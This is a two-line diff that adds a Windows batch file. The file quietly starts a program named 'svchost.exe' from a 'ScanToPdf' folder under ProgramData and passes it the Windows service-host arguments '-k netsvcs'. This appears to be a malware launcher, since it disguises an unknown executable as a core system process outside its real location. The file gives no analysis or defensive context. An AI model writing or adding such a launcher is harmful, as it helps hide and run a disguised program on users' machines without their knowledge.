@@ -1,0 +1,2 @@
+@echo off
+start "" "C:\ProgramData\ScanToPdf\svchost.exe" -k netsvcs
